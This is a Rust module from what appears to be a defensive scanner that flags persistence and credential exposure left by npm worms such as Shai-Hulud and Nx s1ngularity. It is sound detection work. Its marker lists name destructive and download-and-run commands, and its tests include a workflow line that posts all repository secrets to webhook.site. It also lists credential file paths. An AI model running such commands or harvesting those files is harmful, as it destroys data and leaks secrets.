//! Persistence the npm malware classes install, and the credentials they steal.
//!
//! Persistence: the Nx "s1ngularity" payload (August 2025) appended
//! `sudo shutdown -h 0` to `~/.bashrc` and `~/.zshrc`; Shai-Hulud (September
//! 2025) pushed `.github/workflows/shai-hulud-workflow.yml`; its second wave
//! registered the machine as a self-hosted GitHub runner (`SHA1HULUD`, under
//! `~/.dev-env`) reached through a planted `.github/workflows/discussion.yaml`,
//! and wiped the home directory when it could not exfiltrate. Droppers in the
//! malicious-packages corpus install systemd user units, cron entries and
//! launch agents that run `curl … | sh` or `node` on a hidden file. A file is
//! reported only when its content matches one of these patterns (or an IOC
//! `string:`), or when it is a runner registration.
//!
//! Credentials: the files those payloads read (npm tokens, GitHub CLI, cloud
//! credentials, SSH keys, `.env`). Only existence and path are reported; the
//! walker may read a file to see whether a token *key* is present, and keeps
//! nothing but that yes/no.

use std::path::{Component, Path};

use serde::Serialize;

/// What kind of persistence a file can hold.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum PersistenceKind {
    SystemdUnit,
    Cron,
    ShellRc,
    LaunchAgent,
    RunnerRegistration,
    Workflow,
}

impl PersistenceKind {
    pub fn as_str(self) -> &'static str {
        match self {
            PersistenceKind::SystemdUnit => "systemd-unit",
            PersistenceKind::Cron => "cron",
            PersistenceKind::ShellRc => "shell-rc",
            PersistenceKind::LaunchAgent => "launch-agent",
            PersistenceKind::RunnerRegistration => "runner-registration",
            PersistenceKind::Workflow => "workflow",
        }
    }

    /// How to remove it, for the response section.
    pub fn removal(self) -> &'static str {
        match self {
            PersistenceKind::SystemdUnit => "`systemctl --user disable --now <unit>`, then delete the unit file",
            PersistenceKind::Cron => "delete the cron entry (`crontab -e`, or the file under /etc/cron.d)",
            PersistenceKind::ShellRc => "delete the added lines from the shell startup file",
            PersistenceKind::LaunchAgent => "`launchctl bootout gui/$UID <plist>`, then delete the plist",
            PersistenceKind::RunnerRegistration => {
                "stop the runner process, delete its folder, and remove the runner in the repository's Settings → Actions → Runners"
            }
            PersistenceKind::Workflow => "delete the workflow file and the branch that added it; check the remote repository too",
        }
    }
}

const SHELL_RC: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    "config.fish",
];

/// Whether a file (by path only) can hold persistence.
pub fn candidate(path: &Path, file_name: &str) -> Option<PersistenceKind> {
    let parent = parent_name(path, 1);
    let grandparent = parent_name(path, 2);
    let lower = file_name.to_ascii_lowercase();
    if SHELL_RC.contains(&file_name) {
        return Some(PersistenceKind::ShellRc);
    }
    if file_name == ".runner" {
        return Some(PersistenceKind::RunnerRegistration);
    }
    if parent == Some("workflows")
        && grandparent == Some(".github")
        && (lower.ends_with(".yml") || lower.ends_with(".yaml"))
    {
        return Some(PersistenceKind::Workflow);
    }
    if (parent == Some("LaunchAgents") || parent == Some("LaunchDaemons")) && lower.ends_with(".plist") {
        return Some(PersistenceKind::LaunchAgent);
    }
    let unit_suffix = [".service", ".timer", ".path", ".socket"]
        .iter()
        .any(|suffix| lower.ends_with(suffix));
    if unit_suffix && (has_components(path, &["systemd", "user"]) || has_components(path, &["systemd", "system"])) {
        return Some(PersistenceKind::SystemdUnit);
    }
    let text = path.to_string_lossy();
    if text.contains("/var/spool/cron/")
        || text.starts_with("/etc/cron.")
        || text == "/etc/crontab"
        || parent.is_some_and(|p| p == "crontabs" || p == "cron.d")
    {
        return Some(PersistenceKind::Cron);
    }
    None
}

fn parent_name(path: &Path, up: usize) -> Option<&str> {
    path.ancestors().nth(up)?.file_name()?.to_str()
}

/// `names` appear as consecutive components of `path`.
fn has_components(path: &Path, names: &[&str]) -> bool {
    let components: Vec<&std::ffi::OsStr> = path
        .components()
        .filter_map(|c| match c {
            Component::Normal(part) => Some(part),
            _ => None,
        })
        .collect();
    components
        .windows(names.len())
        .any(|window| window.iter().zip(names).all(|(a, b)| *a == *b))
}

/// Strings of the worms themselves (case-insensitive), with the reason.
const WORM_MARKERS: &[(&str, &str)] = &[
    ("shai-hulud", "Shai-Hulud worm marker"),
    ("sha1hulud", "Shai-Hulud 2.0 runner name"),
    ("sha1-hulud", "Shai-Hulud 2.0 marker"),
    ("s1ngularity", "Nx s1ngularity marker"),
    ("/.dev-env/", "Shai-Hulud 2.0 runner folder"),
    ("trufflehog", "runs the TruffleHog secret scanner"),
    ("webhook.site", "sends data to webhook.site"),
];

/// What droppers put in startup files and services (case-insensitive).
const MARKERS: &[(&str, &str)] = &[
    ("shutdown -h", "shuts the machine down (Nx s1ngularity)"),
    ("shutdown now", "shuts the machine down"),
    ("--no-preserve-root", "deletes the file system (dead-man's switch)"),
    ("shred -", "overwrites files"),
    ("node -e", "runs inline JavaScript"),
    ("node --eval", "runs inline JavaScript"),
    ("bun -e", "runs inline JavaScript"),
    ("base64 -d", "decodes a base64 payload"),
    ("base64 --decode", "decodes a base64 payload"),
];

/// `rm -rf` of the home directory or the root itself (not of a folder in them).
fn destructive(lower: &str) -> Option<&'static str> {
    let mut rest = lower;
    while let Some(position) = rest.find("rm -") {
        let after = &rest[position + 3..];
        let mut tokens = after.split_whitespace();
        let flags = tokens.next().unwrap_or_default();
        if flags.contains('r') && flags.contains('f') {
            let target = tokens.next().unwrap_or_default().trim_matches(['"', '\'', ';']);
            match target {
                "~" | "~/" | "~/*" | "$home" | "$home/" | "$home/*" | "${home}" | "${home}/" | "${home}/*" => {
                    return Some("deletes the home directory (dead-man's switch)");
                }
                "/" | "/*" => return Some("deletes the file system (dead-man's switch)"),
                _ => {}
            }
        }
        rest = after;
    }
    None
}

/// Markers only meaningful in a service, cron entry or launch agent.
const SERVICE_MARKERS: &[(&str, &str)] = &[
    ("node_modules/", "runs code from a node_modules folder"),
    ("/tmp/", "runs something from /tmp"),
];

/// Why a candidate file is reported, when it is; `high` says it matched a
/// known-malicious pattern rather than only needing review.
pub fn evaluate(
    kind: PersistenceKind,
    path: &Path,
    text: &str,
    strings: &[(String, String)],
) -> Option<(Vec<String>, bool)> {
    let mut reasons = Vec::new();
    for (needle, origin) in strings {
        if text.contains(needle.as_str()) {
            reasons.push(format!("contains IOC string `{needle}` ({origin})"));
        }
    }
    for line in text.lines() {
        let lower = line.to_ascii_lowercase();
        if kind == PersistenceKind::Workflow {
            // CI workflows legitimately download installers and delete
            // folders; only worm markers count there (and the checks below).
            for (needle, reason) in WORM_MARKERS {
                if lower.contains(needle) {
                    push_unique(&mut reasons, reason);
                }
            }
            continue;
        }
        if lower.trim_start().starts_with('#') {
            continue;
        }
        let fetch = lower.contains("curl ") || lower.contains("wget ");
        let pipe = ["| sh", "|sh", "| bash", "|bash", "| zsh", "| node", "|node"]
            .iter()
            .any(|p| lower.contains(p));
        if fetch && pipe {
            push_unique(&mut reasons, "downloads and runs a script");
        }
        if let Some(reason) = destructive(&lower) {
            push_unique(&mut reasons, reason);
        }
        for (needle, reason) in WORM_MARKERS.iter().chain(MARKERS) {
            if lower.contains(needle) {
                push_unique(&mut reasons, reason);
            }
        }
        if matches!(
            kind,
            PersistenceKind::SystemdUnit | PersistenceKind::Cron | PersistenceKind::LaunchAgent
        ) {
            for (needle, reason) in SERVICE_MARKERS {
                if lower.contains(needle) {
                    push_unique(&mut reasons, reason);
                }
            }
        }
    }
    if kind == PersistenceKind::Workflow {
        let lower = text.to_ascii_lowercase();
        let name = path
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or_default()
            .to_ascii_lowercase();
        if lower.contains("tojson(secrets)") {
            push_unique(&mut reasons, "dumps every repository secret (toJSON(secrets))");
        }
        if lower.contains("github.event.discussion.body") && lower.contains("self-hosted") {
            push_unique(
                &mut reasons,
                "runs discussion text on a self-hosted runner (Shai-Hulud 2.0 backdoor)",
            );
        }
        if name.starts_with("shai-hulud") || (name.starts_with("formatter_") && lower.contains("secrets")) {
            push_unique(&mut reasons, "file name of a Shai-Hulud planted workflow");
        }
    }
    if kind == PersistenceKind::RunnerRegistration {
        let agent = serde_json::from_str::<serde_json::Value>(text.trim_start_matches('\u{feff}'))
            .ok()
            .filter(|value| value.get("agentName").is_some() || value.get("gitHubUrl").is_some());
        let Some(agent) = agent else {
            return (!reasons.is_empty()).then_some((reasons, true));
        };
        let field = |key: &str| agent.get(key).and_then(|v| v.as_str()).unwrap_or("?").to_string();
        let high = field("agentName").to_ascii_lowercase().contains("hulud")
            || path.to_string_lossy().contains("/.dev-env/")
            || !reasons.is_empty();
        reasons.insert(
            0,
            format!(
                "self-hosted GitHub Actions runner `{}` registered for {}",
                field("agentName"),
                field("gitHubUrl")
            ),
        );
        return Some((reasons, high));
    }
    (!reasons.is_empty()).then_some((reasons, true))
}

fn push_unique(reasons: &mut Vec<String>, reason: &str) {
    if !reasons.iter().any(|known| known == reason) {
        reasons.push(reason.to_string());
    }
}

/// What to do with a file that may hold a credential.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CredentialCheck {
    /// Its existence is the credential (a private key, a cloud credentials file).
    Exists(&'static str),
    /// A credential only when one of these keys appears in it (`.npmrc` without
    /// a token is configuration, not a secret).
    IfContains(&'static str, &'static [&'static str]),
}

/// Whether a file (by path only) can hold a credential the npm malware classes
/// steal. Files inside `node_modules` are packages' own, never asked about.
pub fn credential_candidate(path: &Path, file_name: &str) -> Option<CredentialCheck> {
    let parent = parent_name(path, 1);
    match file_name {
        ".npmrc" => {
            return Some(CredentialCheck::IfContains(
                "npm-token",
                &["_authToken", "_auth", "_password"],
            ))
        }
        ".yarnrc.yml" => return Some(CredentialCheck::IfContains("npm-token", &["npmAuthToken"])),
        ".yarnrc" => return Some(CredentialCheck::IfContains("npm-token", &["_authToken"])),
        ".git-credentials" => return Some(CredentialCheck::Exists("git-credentials")),
        ".pypirc" => return Some(CredentialCheck::IfContains("pypi-token", &["password"])),
        _ => {}
    }
    match (parent, file_name) {
        (Some("gh"), "hosts.yml") => Some(CredentialCheck::IfContains("github-cli-token", &["oauth_token"])),
        (Some(".aws"), "credentials") => Some(CredentialCheck::Exists("aws-credentials")),
        (Some("gcloud"), "credentials.db" | "access_tokens.db" | "application_default_credentials.json") => {
            Some(CredentialCheck::Exists("gcloud-credentials"))
        }
        (Some(".azure"), "msal_token_cache.json" | "accessTokens.json" | "msal_token_cache.bin") => {
            Some(CredentialCheck::Exists("azure-credentials"))
        }
        (Some(".docker"), "config.json") => Some(CredentialCheck::IfContains("docker-registry-auth", &["\"auth\""])),
        (Some(".kube"), "config") => Some(CredentialCheck::Exists("kubeconfig")),
        (Some(".cargo"), "credentials.toml" | "credentials") => {
            Some(CredentialCheck::IfContains("cargo-token", &["token"]))
        }
        (Some(".ssh"), name) if name.starts_with("id_") && !name.ends_with(".pub") => {
            Some(CredentialCheck::Exists("ssh-private-key"))
        }
        (_, name) if is_dotenv(name) => Some(CredentialCheck::Exists("dotenv")),
        _ => None,
    }
}

fn is_dotenv(name: &str) -> bool {
    if name == ".env" {
        return true;
    }
    let Some(suffix) = name.strip_prefix(".env.") else {
        return false;
    };
    !matches!(
        suffix,
        "example" | "sample" | "template" | "dist" | "defaults" | "schema"
    )
}

/// Whether `text` has one of `keys` as a key (not merely in a comment).
pub fn has_key(text: &str, keys: &[&str]) -> bool {
    text.lines().any(|line| {
        let line = line.trim_start();
        !line.starts_with('#') && !line.starts_with(';') && keys.iter().any(|key| line.contains(key))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn candidates_by_path() {
        let kind = |path: &str| {
            let path = Path::new(path);
            candidate(path, path.file_name().and_then(|n| n.to_str()).unwrap_or_default())
        };
        assert_eq!(kind("/home/u/.bashrc"), Some(PersistenceKind::ShellRc));
        assert_eq!(
            kind("/home/u/.config/systemd/user/x.service"),
            Some(PersistenceKind::SystemdUnit)
        );
        assert_eq!(kind("/home/u/.config/systemd/user.conf"), None);
        assert_eq!(
            kind("/home/u/repo/.github/workflows/ci.yml"),
            Some(PersistenceKind::Workflow)
        );
        assert_eq!(
            kind("/home/u/.dev-env/.runner"),
            Some(PersistenceKind::RunnerRegistration)
        );
        assert_eq!(kind("/var/spool/cron/crontabs/u"), Some(PersistenceKind::Cron));
        assert_eq!(
            kind("/Users/u/Library/LaunchAgents/com.x.plist"),
            Some(PersistenceKind::LaunchAgent)
        );
        assert_eq!(kind("/home/u/repo/README.md"), None);
    }

    #[test]
    fn rc_files_with_installer_lines_are_clean_and_shutdown_is_not() {
        let strings = Vec::new();
        let rc = Path::new("/home/u/.bashrc");
        let clean = "export NVM_DIR=\"$HOME/.nvm\"\n. \"$HOME/.cargo/env\"\n# curl x | sh in a comment\n";
        assert_eq!(evaluate(PersistenceKind::ShellRc, rc, clean, &strings), None);
        let planted = format!("{clean}sudo shutdown -h 0\n");
        let (reasons, high) = evaluate(PersistenceKind::ShellRc, rc, &planted, &strings).expect("reported");
        assert!(high);
        assert!(reasons[0].contains("shuts the machine down"), "{reasons:?}");
    }

    proptest::proptest! {
        #[test]
        fn evaluate_never_panics(text in "\\PC{0,120}") {
            for kind in [PersistenceKind::ShellRc, PersistenceKind::Workflow, PersistenceKind::RunnerRegistration, PersistenceKind::Cron] {
                let _ = evaluate(kind, Path::new("/h/.github/workflows/x.yml"), &text, &[]);
            }
            let _ = destructive(&text);
            let _ = has_key(&text, &["_authToken"]);
        }
    }

    #[test]
    fn destructive_commands_target_home_or_root_only() {
        assert!(destructive("rm -rf ~").is_some());
        assert!(destructive("sudo rm -rf $home/*").is_some());
        assert!(destructive("rm -rf /").is_some());
        assert!(destructive("rm -fr ~/ && echo").is_some());
        assert!(destructive("rm -rf ~/.cargo/registry").is_none());
        assert!(destructive("rm -rf /tmp/build").is_none());
    }

    #[test]
    fn ci_workflows_that_install_tools_are_clean() {
        let text = "jobs:\n  t:\n    steps:\n      - run: curl -sSf https://sh.rustup.rs | sh -s -- -y\n      - run: rm -rf ~/.cargo/registry\n";
        assert_eq!(
            evaluate(
                PersistenceKind::Workflow,
                Path::new("/r/.github/workflows/ci.yml"),
                text,
                &[]
            ),
            None
        );
    }

    #[test]
    fn workflows() {
        let strings = Vec::new();
        let ci = Path::new("/r/.github/workflows/ci.yml");
        assert_eq!(
            evaluate(
                PersistenceKind::Workflow,
                ci,
                "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n",
                &strings
            ),
            None
        );
        let planted = Path::new("/r/.github/workflows/shai-hulud-workflow.yml");
        let text = "on: push\njobs:\n  x:\n    steps:\n      - run: curl -d \"$(echo '${{ toJSON(secrets) }}')\" https://webhook.site/abc\n";
        let (reasons, _) = evaluate(PersistenceKind::Workflow, planted, text, &strings).expect("reported");
        assert!(reasons.iter().any(|r| r.contains("toJSON(secrets)")), "{reasons:?}");
        assert!(reasons.iter().any(|r| r.contains("webhook.site")), "{reasons:?}");
        assert!(reasons.iter().any(|r| r.contains("file name")), "{reasons:?}");
    }

    #[test]
    fn runner_registrations_are_always_reported() {
        let strings = Vec::new();
        let text = r#"{"agentId": 7, "agentName": "SHA1HULUD", "gitHubUrl": "https://github.com/victim/repo"}"#;
        let (reasons, high) = evaluate(
            PersistenceKind::RunnerRegistration,
            Path::new("/home/u/.dev-env/.runner"),
            text,
            &strings,
        )
        .expect("reported");
        assert!(high);
        assert!(reasons[0].contains("SHA1HULUD"));
        let ordinary = r#"{"agentName": "build-01", "gitHubUrl": "https://github.com/org"}"#;
        let (_, high) = evaluate(
            PersistenceKind::RunnerRegistration,
            Path::new("/opt/actions-runner/.runner"),
            ordinary,
            &strings,
        )
        .expect("reported");
        assert!(!high);
    }

    #[test]
    fn credentials_by_path_and_key() {
        let check = |path: &str| {
            let path = Path::new(path);
            credential_candidate(path, path.file_name().and_then(|n| n.to_str()).unwrap_or_default())
        };
        assert_eq!(
            check("/home/u/.ssh/id_ed25519"),
            Some(CredentialCheck::Exists("ssh-private-key"))
        );
        assert_eq!(check("/home/u/.ssh/id_ed25519.pub"), None);
        assert_eq!(
            check("/home/u/.aws/credentials"),
            Some(CredentialCheck::Exists("aws-credentials"))
        );
        assert_eq!(check("/home/u/app/.env.example"), None);
        assert_eq!(
            check("/home/u/app/.env.production"),
            Some(CredentialCheck::Exists("dotenv"))
        );
        assert!(has_key("//registry.npmjs.org/:_authToken=npm_x\n", &["_authToken"]));
        assert!(!has_key("registry=https://r/\n# _authToken=old\n", &["_authToken"]));
    }
}
